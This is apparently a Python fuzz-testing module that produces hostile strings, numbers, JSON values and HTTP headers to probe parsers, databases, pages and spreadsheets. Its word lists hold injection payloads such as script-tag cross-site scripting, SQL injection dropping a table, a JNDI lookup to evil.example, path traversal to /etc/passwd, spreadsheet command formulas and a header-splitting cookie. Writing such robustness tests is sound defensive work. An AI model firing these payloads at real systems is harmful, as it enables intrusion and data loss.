"""Texts, numbers and JSON that nobody types: what parsers, databases, pages and spreadsheets stumble over."""

from random import Random
from typing import Any

MARK = "<q7\"'>"
"""If a page shows it as it is, names can carry scripts."""

_CHARACTERS = (
    "\0", "a\0b", "\ud800", "王\udfff芳", "\x1b[31m", "\x7f", "\x85", "\u2028", "\u202e\u2066王芳", "\ufeff",
    "\ufffe\uffff", "\U0010ffff", "\U0001f9d1\u200d\U0001f3eb", "𠮷田", "e\u0301" * 40, "\u0300" * 200, "ﬁ", "İ", "ß",
    "\u3000", "\t", "\n" * 500, "\r\nSet-Cookie: q7=1\r\n\r\n", "\r\n", "\\", "\\x00", "%00", "%", "%%%", "+", "&", ";",
)  # fmt: skip
_NUMBERS = (
    "0", "-1", "1", "²", "½", "①", "١٢٣", "１２３", "1_000", "1e9", "1e999", "NaN", "Infinity", "0x1f", "007", "1.5",
    "9223372036854775808", "-9223372036854775809", "9" * 25, "9" * 4301, "1" * 70_000, "--1", "2026-02-30",
    "0000-00-00", "9999-12-31", "10000-01-01", "2026-11-24T25:61:61Z", "0001-01-01", "24:00",
)  # fmt: skip
_WORDS = (
    "", " ", "null", "true", "[]", "{}", "None", "__class__", "constructor", "..", ".", "../../../../etc/passwd",
    "..\\..\\windows", "/etc/passwd", "C:\\boot.ini", "file:///etc/passwd", "http://127.0.0.1:1/x", "//evil.example/",
    "https://evil.example", "/\\evil.example", "javascript:alert(1)", f"{MARK}<script>alert(1)</script>",
    f"{MARK}<img src=x onerror=alert(1)>", "{{7*7}}", "{0.__class__}", "%s%s%n", "${jndi:ldap://evil.example/x}",
    "' OR '1'='1", "'; DROP TABLE staff; --", "\"", "`", "_%", "*", "a*" * 50, "(" * 300, "=cmd|' /C calc'!A0",
    "+1+1", "@SUM(A1)", "|calc", "-2+3", "CON", "aux.xlsx", "a" * 300, "a" * 70_000, "人" * 5_000, "a," * 3_000,
    "150102199001011234", "13800138000", "150000", "9115030201", "root", "issuing", "0" * 64, "f" * 40, "-----BEGIN",
)  # fmt: skip
_KEYS = ("", "__proto__", "constructor", "q7", "\0", "\ud800", "a" * 5_000, "session ", "records.0")
_HEADER_VALUES = (
    "", "\0", MARK, "évil", "\ud800", "x" * 9_000, "*/*;q=nan", "text/html;q=0.1, */*;q=" + "9" * 400, "bytes=0-",
    "bytes=-1", "bytes=9-1", "bytes=0-0,2-2,4-4", "bytes=" + "0-1," * 500, "bytes=99999999999999999999-",
    "pages=1-2", "W/\"x\"", "*", "\"" * 99, "Thu, 99 Foo 2026 99:99:99 GMT", "Mon, 01 Jan 0001 00:00:00 GMT",
    "Fri, 31 Dec 9999 23:59:59 +9999", "evil.example", "evil.example:99999", "[::1", "localhost:abc", "localhost@evil",
    "for=\"[::1\";host=", "https", "gopher", "127.0.0.1, 127.0.0.1", "::ffff:127.0.0.1%eth0", "Bearer", "Bearer ",
    "Basic Og==", "Basic !!!", "Bearer a.b.c", "Bearer " + "A" * 9_000, "Negotiate", "gzip", "chunked", "100-continue",
    "zh-CN-x-" + "a-" * 900, "utf-7", "no-cache", "cross-site", "XMLHttpRequest", "PUT",
)  # fmt: skip
HEADERS = (
    "Accept", "Accept-Language", "Accept-Encoding", "Authorization", "Content-Encoding", "Content-Type", "Cookie",
    "Expect", "Forwarded", "Host", "If-Match", "If-Modified-Since", "If-None-Match", "If-Range", "If-Unmodified-Since",
    "Max-Forwards", "Origin", "Range", "Referer", "Sec-Fetch-Site", "TE", "Transfer-Encoding", "Upgrade", "User-Agent",
    "X-CSRF-Token", "X-Client-Cert", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Prefix", "X-Forwarded-Proto",
    "X-HTTP-Method-Override", "X-Original-URL", "X-Request-ID", "X-Rewrite-URL", "X-Ssl-Client-Cert", "X-SSL-Cert",
)  # fmt: skip
METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get", "Q7", "")
CONTENT_TYPES = (
    "", "text/plain", "application/json", "application/json; charset=utf-16", "application/json; charset=q7",
    "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-7", "multipart/form-data",
    "multipart/form-data; boundary=", "multipart/form-data; boundary=x", "multipart/form-data; boundary=" + "b" * 9_000,
    "multipart/form-data; boundary=\"\r\n\"", "multipart/mixed; boundary=x", "application/xml", "text/xml",
    "application/ocsp-request", "application/pkcs10", "*/*", "q7", "\0", "application/json;" * 200,
)  # fmt: skip


def text(rng: Random) -> str:
    """Mostly known trouble, one in ten random code points, surrogates among them."""
    kind = rng.random()
    if kind < 0.1:
        return "".join(chr(rng.randrange(0x11_0000)) for _ in range(rng.randrange(1, 30)))
    found = rng.choice(rng.choice((_CHARACTERS, _NUMBERS, _WORDS)))
    if kind < 0.2:
        return "示范" + found + "人"
    return found


def key(rng: Random) -> str:
    """A name for a member or field that nobody knows."""
    return rng.choice(_KEYS)


def header(rng: Random) -> tuple[str, str]:
    """A header with a value that it should not have."""
    return rng.choice(HEADERS), rng.choice(_HEADER_VALUES) if rng.random() < 0.8 else _one_line(text(rng))


def _one_line(value: str) -> str:
    # A server ends the header there; what comes behind is another header's, and the wire part sends those.
    return value.replace("\r", "").replace("\n", "")[:9_000]


def json_value(rng: Random) -> Any:
    """One hostile JSON value; now and then a deep or a wide one."""
    kind = rng.random()
    if kind < 0.5:
        return text(rng)
    if kind < 0.55:
        return _nested(rng.choice((50, 400, 900)), rng.random() < 0.5)
    if kind < 0.6:
        return [text(rng)[:20]] * rng.choice((1, 100, 11_000))
    simple: tuple[Any, ...] = (
        None,
        True,
        False,
        0,
        -1,
        1.5,
        -0.0,
        1e308,
        float("nan"),
        float("-inf"),
        10**30,
        -(10**400),
        [],
        {},
    )
    return rng.choice((*simple, [None], {"": ""}, {"a": {"b": [1, {"c": None}]}}))


def _nested(depth: int, as_list: bool) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = [value] if as_list else {"a": value}
    return value
